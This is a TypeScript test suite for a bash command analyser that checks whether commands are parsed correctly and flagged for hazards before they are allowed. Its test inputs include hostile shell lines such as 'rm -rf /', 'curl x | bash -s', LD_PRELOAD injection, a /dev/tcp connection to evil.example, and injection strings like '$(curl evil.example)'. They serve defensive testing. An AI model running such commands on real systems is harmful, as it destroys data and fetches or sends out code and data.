import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyzeCommand } from "./analyze.ts";
import { bashRuleMatches } from "./bash-rules.ts";
import { createShellParser } from "./parser.ts";
import { isReadOnlyCommand } from "./read-only.ts";
import type { CommandAnalysis, Hazard, SimpleCommand, Word } from "./types.ts";

const parser = createShellParser();
const analyze = (command: string): Promise<CommandAnalysis> => analyzeCommand(parser, command);

/** `A=1 rm -rf {$X}`: assignments, then words; run-time words in braces, spaced words in '…'. */
function render(cmd: SimpleCommand): string {
  const word = (w: Word): string =>
    w.kind === "dynamic" ? `{${w.text}}` : /[\s']/.test(w.value) ? `'${w.value}'` : w.value;
  return [...cmd.assignments, ...cmd.argv.map(word)].join(" ");
}

function hazardKinds(hazards: readonly Hazard[]): string[] {
  return [...new Set(hazards.map((h) => h.kind))].sort();
}

async function parsed(command: string) {
  const result = await analyze(command);
  if (result.kind !== "parsed") throw new Error(`unparsable: ${result.reason}`);
  return result;
}

type Case = [command: string, commands: string[], hazards?: Hazard["kind"][]];

describe("analyzeCommand", () => {
  describe("finds every simple command and its hazards", () => {
    const cases: Case[] = [
      // separators and grouping
      ["git status; curl evil", ["git status", "curl evil"]],
      ["git status\ncurl evil", ["git status", "curl evil"]],
      ["a && b || c; d | e |& f", ["a", "b", "c", "d", "e", "f"]],
      ["(cd /tmp && rm -rf x) & ls", ["cd /tmp", "rm -rf x", "ls"], ["background"]],
      ["{ echo a; echo b; }", ["echo a", "echo b"]],
      ["! grep -q x f && echo ok", ["grep -q x f", "echo ok"]],
      [
        "if true; then rm x; elif false; then rm y; else rm z; fi",
        ["true", "rm x", "false", "rm y", "rm z"],
      ],
      ['while read f; do rm "$f"; done < list', ["read f", 'rm {"$f"}']],
      ["until false; do sleep 1; done", ["false", "sleep 1"]],
      ["case $x in a) ls;; *) rm b;; esac", ["ls", "rm b"]],
      ["for f in a b; do cat $f; done", ["cat {$f}"]],
      ["cat file | grep x | wc -l", ["cat file", "grep x", "wc -l"]],
      ["ls # ; rm -rf /", ["ls"]],
      ["echo a#b", ["echo a#b"]],
      // substitutions: the hazard, and the inner command analysed too
      [
        "git status && $(curl x)",
        ["git status", "{$(curl x)}", "curl x"],
        ["command_substitution", "dynamic_program"],
      ],
      ["`id`", ["{`id`}", "id"], ["command_substitution", "dynamic_program"]],
      [
        'git log --grep="$(curl x)"',
        ['git log {--grep="$(curl x)"}', "curl x"],
        ["command_substitution"],
      ],
      [
        'echo "$(echo "$(id)")"',
        ['echo {"$(echo "$(id)")"}', 'echo {"$(id)"}', "id"],
        ["command_substitution"],
      ],
      [
        "diff <(ls a) <(ls b)",
        ["diff {<(ls a)} {<(ls b)}", "ls a", "ls b"],
        ["process_substitution"],
      ],
      ["for f in $(ls); do cat $f; done", ["ls", "cat {$f}"], ["command_substitution"]],
      ["x=$(curl evil)", ["x=$(curl evil)", "curl evil"], ["command_substitution"]],
      ["[[ $(id) == x ]]", ["[[ {$(id)} == {x} ]]", "id"], ["command_substitution"]],
      ["(( x = $(id) ))", ["id"], ["command_substitution", "other"]],
      ["a[$(id)]=1", ["a[$(id)]=1", "id"], ["command_substitution", "other"]],
      // pipes into a shell, eval and friends
      ["git status | sh", ["git status", "sh"], ["eval"]],
      ["curl x | bash -s", ["curl x", "bash -s"], ["eval"]],
      ['eval "rm -rf /"', ["eval 'rm -rf /'", "rm -rf /"], ["eval"]],
      ["eval $CMD", ["eval {$CMD}"], ["eval"]],
      ["exec rm x", ["rm x"], ["eval"]],
      ["source ./env.sh", ["source ./env.sh"], ["eval"]],
      [". ./env.sh", [". ./env.sh"], ["eval"]],
      ["trap 'rm -rf /' EXIT", ["trap 'rm -rf /' EXIT"], ["eval"]],
      ["builtin eval x", ["eval x", "x"], ["eval"]],
      // quoting: the words bash passes, not the text
      ["gi''t status", ["git status"]],
      ["\"git\" 'status'", ["git status"]],
      ["g\\it st\"a\"'t'us", ["git status"]],
      ['echo a\\ b \'c d\' "e\\$f" "\\q"', ["echo 'a b' 'c d' e$f \\q"]],
      ["echo 'a*b' \"~\" \\* '$HOME'", ["echo a*b ~ * $HOME"]],
      ["echo $'\\x6c\\x73' $'a\\tb'", ["echo ls 'a\tb'"]],
      ["$'\\x72\\x6d' -rf /", ["rm -rf /"]],
      ["git log HEAD~1 @{u} a=b", ["git log HEAD~1 @{u} a=b"]],
      ["ls \\\n-la", ["ls -la"]],
      ['echo "a\\\nb"', ["echo ab"]],
      // run-time words
      ["ls${IFS}-la", ["{ls${IFS}-la}"], ["dynamic_program"]],
      ["ls $IFS -la", ["ls {$IFS} -la"]],
      [
        "echo *.txt ~ ~/x a=~/y [ab] {a,b} {1..3} $((1+2)) ${x:-y}",
        ["echo {*.txt} {~} {~/x} {a=~/y} {[ab]} {{a,b}} {{1..3}} {$((1+2))} {${x:-y}}"],
      ],
      ["echo [ x{} {y}", ["echo [ x{} {y}"]],
      // wrappers are unwrapped to what they run
      ["timeout 5 rm -rf x", ["rm -rf x"]],
      ["timeout -s KILL --preserve-status 5 npm test", ["npm test"]],
      ["nice -n 5 nohup stdbuf -oL time -p git log", ["git log"]],
      ["nice -10 ionice -c3 git status", ["git status"]],
      ["command rm x", ["rm x"]],
      ["command -v git", ["command -v git"]],
      ["/usr/bin/timeout 5 ls", ["ls"]],
      ["./timeout 5 rm x", ["./timeout 5 rm x"]],
      ["timeout --bogus 5 rm x", ["timeout --bogus 5 rm x"], ["other"]],
      ["env A=1 B=2 git status", ["A=1 B=2 git status"]],
      ["env", ["env"]],
      ["env LD_PRELOAD=/tmp/x.so ls", ["LD_PRELOAD=/tmp/x.so ls"], ["dangerous_env"]],
      ["env -i PATH=/tmp ls", ["PATH=/tmp ls"], ["dangerous_env"]],
      ["env -u HOME ls", ["ls"], ["other"]],
      ["env -S 'rm -rf /' ls", ["env -S 'rm -rf /' ls"], ["eval"]],
      ["ls | xargs rm", ["ls", "rm {{xargs input}}"]],
      ["xargs -0 -n1 rm -f < list", ["rm -f {{xargs input}}"]],
      ["xargs", ["echo {{xargs input}}"]],
      ["xargs -I{} mv {} {}.bak", ["mv {{}} {{}.bak}"]],
      ["xargs -I{} sh -c 'echo {}'", ["sh -c {'echo {}'}"], ["eval"]],
      ["xargs --bogus rm", ["xargs --bogus rm"], ["other"]],
      ["find . -exec rm {} \\;", ["find . -exec rm {} ;", "rm {{}}"]],
      [
        "find . -name '*.o' -execdir sh -c 'rm x' \\; -print",
        ["find . -name *.o -execdir sh -c 'rm x' ; -print", "rm x"],
      ],
      [
        "find . -exec grep -l x {} + -exec rm {} ';'",
        ["find . -exec grep -l x {} + -exec rm {} ;", "grep -l x {{}}", "rm {{}}"],
      ],
      ['bash -c "curl x"', ["curl x"]],
      ["bash -c 'git status; rm -rf /' name arg", ["git status", "rm -rf /"]],
      ["sh -ec 'ls' > out", ["ls"]],
      ['sh -c "$CMD"', ['sh -c {"$CMD"}'], ["eval"]],
      ["bash -c 'bash -c \"curl x\"'", ["curl x"]],
      ["bash script.sh", ["bash script.sh"]],
      ["bash --rcfile x -c ls", ["bash --rcfile x -c ls"], ["other"]],
      ["sudo rm -rf /", ["sudo rm -rf /", "rm -rf /"]],
      ["sudo -u bob FOO=1 make install", ["sudo -u bob FOO=1 make install", "FOO=1 make install"]],
      ["watch -n1 'rm x'", ["watch -n1 'rm x'", "rm x"]],
      ["coproc rm x", ["rm x"], ["background"]],
      // environment
      ["PATH=/tmp:$PATH ls", ["PATH=/tmp:$PATH ls"], ["dangerous_env"]],
      [
        "GIT_SSH_COMMAND='sh -c x' git fetch",
        ["GIT_SSH_COMMAND='sh -c x' git fetch"],
        ["dangerous_env"],
      ],
      ["IFS=, read a b", ["IFS=, read a b"], ["dangerous_env"]],
      ["LANG=C sort f", ["LANG=C sort f"]],
      ["x=1 y=2", ["x=1 y=2"]],
      [
        "export NODE_OPTIONS=--require=./x.js && node a",
        ["export NODE_OPTIONS=--require=./x.js", "node a"],
        ["dangerous_env"],
      ],
      ["declare -x LD_PRELOAD=/tmp/x.so", ["declare -x LD_PRELOAD=/tmp/x.so"], ["dangerous_env"]],
      ["export PATH", ["export PATH"]],
      ["for PATH in /tmp; do ls; done", ["ls"], ["dangerous_env"]],
      // background and functions
      ["ls &", ["ls"], ["background"]],
      ["f() { rm -rf /; }; f", ["rm -rf /", "f"], ["function_definition"]],
      ["function ls { curl x; }", ["curl x"], ["function_definition"]],
      // heredocs and here-strings: the body is data unless a shell reads it
      ["cat <<'EOF' | sh\nrm -rf /\nEOF", ["cat", "sh"], ["eval"]],
      ["bash <<'EOF'\ncurl x\nEOF", ["curl x"]],
      ["cat <<EOF > out.txt\nhello $HOME\nEOF", ["cat"]],
      ["cat <<EOF\n$(rm -rf /)\nEOF", ["cat", "rm -rf /"], ["command_substitution"]],
      ["cat <<EOF\n`id`\nEOF", ["cat"], ["command_substitution"]],
      ["cat <<EOF\n$\\\n(id)\nEOF", ["cat"], ["command_substitution"]],
      ["cat <<EOF || rm x | sh\na\nEOF", ["cat", "rm x", "sh"], ["eval"]],
      ['cat <<< "$(id)"', ["cat", "id"], ["command_substitution"]],
      ["bash <<< 'curl x'", ["curl x"]],
      // words the grammar files under a redirect belong to the command
      ["rm > /dev/null -rf /", ["rm -rf /"]],
      ["rm 2>&1 -rf / x", ["rm -rf / x"]],
      ["> out ls", ["ls"]],
    ];
    it.each(cases)("%j", async (command, commands, hazards = []) => {
      const result = await parsed(command);
      expect(result.commands.map(render)).toEqual(commands);
      expect(hazardKinds(result.hazards)).toEqual([...hazards].sort());
    });
  });

  describe("refuses what it cannot read with certainty", () => {
    const cases: [string, RegExp][] = [
      ["l\\\ns -la", /line continuation/],
      ["echo $\\\n(id)", /line continuation|syntax/],
      ['echo $"hi"', /word|split/],
      // tree-sitter-bash joins these lines into one command; bash runs two
      ["git status | wc | wc\ncurl evil.example || true", /line break inside one command/],
      ["git status \n\\curl evil.example", /as one word/],
      ["echo a\n\\ curl", /skipped/],
      ["ls\rfoo", /control character/],
      ["ls\u000b-la", /control character/],
      ["ls\u00a0-la", /invisible/],
      ["echo\u200bhi", /invisible/],
      ["ls; ; rm", /syntax/],
      ['echo "unterminated', /syntax|missing/],
      ["if true; then", /syntax|missing/],
      ["cat <> f", /syntax/],
      ["cat <<-EOF ; rm y\n\ta\n\tEOF", /syntax/],
      ["bash -c 'ls; ; rm'", /syntax/],
      ["x".repeat(10_001), /longer than 10,000/],
    ];
    it.each(cases)("%j", async (command, reason) => {
      const result = await analyze(command);
      expect(result.kind).toBe("unparsable");
      if (result.kind === "unparsable") expect(result.reason).toMatch(reason);
    });
  });

  describe("redirects", () => {
    const cases: [string, { operator: string; target: string; writes: boolean }[]][] = [
      ["echo hi > out", [{ operator: ">", target: "out", writes: true }]],
      [
        "echo hi >> log 2>&1",
        [
          { operator: ">>", target: "log", writes: true },
          { operator: "2>&", target: "1", writes: false },
        ],
      ],
      [
        "echo hi > /dev/null 2>/dev/null &>/dev/null",
        [
          { operator: ">", target: "/dev/null", writes: false },
          { operator: "2>", target: "/dev/null", writes: false },
          { operator: "&>", target: "/dev/null", writes: false },
        ],
      ],
      ["echo hi >&2", [{ operator: ">&", target: "2", writes: false }]],
      ["echo hi >& out", [{ operator: ">&", target: "out", writes: true }]],
      ["echo hi > ~/.bashrc", [{ operator: ">", target: "{~/.bashrc}", writes: true }]],
      ['echo hi > "$F"', [{ operator: ">", target: '{"$F"}', writes: true }]],
      ["cat < .env", [{ operator: "<", target: ".env", writes: false }]],
      [
        "echo x >| f 3>&-",
        [
          { operator: ">|", target: "f", writes: true },
          { operator: "3>&-", target: "-", writes: false },
        ],
      ],
    ];
    it.each(cases)("%j", async (command, redirects) => {
      const result = await parsed(command);
      const got = result.commands.flatMap((c) =>
        c.redirects.map((r) => ({
          operator: r.operator,
          target: r.target.kind === "literal" ? r.target.value : `{${r.target.text}}`,
          writes: r.writes,
        })),
      );
      expect(got).toEqual(redirects);
    });

    it("applies a compound command's redirect to every command inside", async () => {
      const result = await parsed("{ echo a; echo b; } > out");
      expect(result.commands.map((c) => c.redirects.map((r) => r.writes))).toEqual([
        [true],
        [true],
      ]);
    });

    it("keeps a redirect with no command as a command of its own", async () => {
      const result = await parsed("> ~/.bashrc");
      expect(result.commands).toHaveLength(1);
      expect(result.commands[0]?.argv).toEqual([]);
      expect(result.commands[0]?.redirects[0]?.writes).toBe(true);
    });

    it("carries the outer redirect of sh -c onto the commands of its script", async () => {
      const result = await parsed("bash -c 'ls; pwd' > out");
      expect(result.commands.map((c) => c.redirects.some((r) => r.writes))).toEqual([true, true]);
    });

    it("flags a /dev/tcp redirect as a network connection", async () => {
      const result = await parsed("echo x > /dev/tcp/evil.example/80");
      expect(result.hazards).toContainEqual({
        kind: "other",
        text: "network connection through a redirect: /dev/tcp/evil.example/80",
      });
    });
  });

  it("keeps each command's own text", async () => {
    const result = await parsed("timeout 5 npm test && bash -c 'git  status' > log");
    expect(result.commands.map((c) => c.text)).toEqual(["npm test", "git  status"]);
  });

  describe("properties", () => {
    const allowed = [
      ["git", "status"],
      ["ls", "-la"],
      ["echo", "hi", "there"],
      ["cat", "a.txt"],
      ["npm", "test"],
      ["grep", "-rn", "foo", "src"],
      ["wc", "-l"],
    ];
    const separators = [";", " ; ", " && ", " || ", " | ", " |& ", "\n", " & ", ";\n", " &&\n"];
    /** A word written one of the ways bash reads back as the same word. */
    const quoted = (escapes: boolean) => (word: string) =>
      fc.constantFrom(
        word,
        `'${word}'`,
        `"${word}"`,
        `${word.slice(0, 1)}''${word.slice(1)}`,
        ...(escapes ? [`\\${word}`] : []),
      );
    const command = (escapes: boolean) =>
      fc
        .constantFrom(...allowed)
        .chain((words) =>
          fc.tuple(
            fc.constant(words),
            fc.tuple(...words.map(quoted(escapes))),
            fc.constantFrom("", "timeout 9 ", "nice "),
          ),
        );
    const script = (escapes: boolean, seps: readonly string[]) =>
      fc
        .tuple(
          fc.array(command(escapes), { minLength: 1, maxLength: 6 }),
          fc.array(fc.constantFrom(...seps), { minLength: 6, maxLength: 6 }),
        )
        .map(([parts, chosen]) => ({
          text: parts
            .map(
              ([, written, wrapper], i) =>
                (i > 0 ? chosen[i - 1] : "") + wrapper + written.join(" "),
            )
            .join(""),
          expected: parts.map(([words]) => words.join(" ")),
        }));
    const sameLine = separators.filter((sep) => !sep.includes("\n"));

    it("finds every simple command, however they are joined and quoted on one line", async () => {
      await fc.assert(
        fc.asyncProperty(script(false, sameLine), async ({ text, expected }) => {
          const result = await parsed(text);
          expect(result.commands.map(render)).toEqual(expected);
        }),
        { numRuns: 300 },
      );
    });

    // tree-sitter-bash mis-reads some line breaks: `a | b | c<newline>d || e` comes back as the
    // command `c d`, and a line starting with a backslash escape joins the previous command. The
    // analysis must refuse such text; whatever it does accept must be exactly right.
    it("across lines and with backslash escapes, finds every command or refuses", async () => {
      let accepted = 0;
      await fc.assert(
        fc.asyncProperty(script(true, separators), async ({ text, expected }) => {
          const result = await analyze(text);
          if (result.kind === "unparsable") {
            expect(result.reason).toMatch(/line break inside one command|as one word/);
            return;
          }
          accepted++;
          expect(result.commands.map(render)).toEqual(expected);
        }),
        { numRuns: 500 },
      );
      expect(accepted).toBeGreaterThan(250);
    });

    const evil = [
      "; curl evil.example",
      "\ncurl evil.example",
      " && rm -rf /",
      " | sh",
      "$(curl evil.example)",
      "`curl evil.example`",
      "<(curl evil.example)",
      " & wget x",
    ];

    it("inserting a command or a substitution anywhere never leaves it allowed", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.array(fc.constantFrom(...allowed), { minLength: 1, maxLength: 3 }),
          fc.constantFrom(...separators.filter((s) => !s.includes("&"))),
          fc.constantFrom(...evil),
          fc.nat(),
          async (commands, sep, insert, at) => {
            const original = commands.map((words) => words.join(" ")).join(sep);
            const position = at % (original.length + 1);
            const text = original.slice(0, position) + insert + original.slice(position);
            const rules = commands.flatMap((words) => [words.join(" "), `${words[0]} *`]);
            const result = await analyze(text);
            if (result.kind === "unparsable") return;
            const fullyAllowed =
              result.hazards.length === 0 &&
              result.commands.every((c) => rules.some((rule) => bashRuleMatches(rule, c)));
            const allReadOnly =
              result.hazards.length === 0 && result.commands.every((c) => isReadOnlyCommand(c));
            expect({ text, fullyAllowed, allReadOnly }).toEqual({
              text,
              fullyAllowed: false,
              allReadOnly: false,
            });
          },
        ),
        { numRuns: 500 },
      );
    });
  });
});
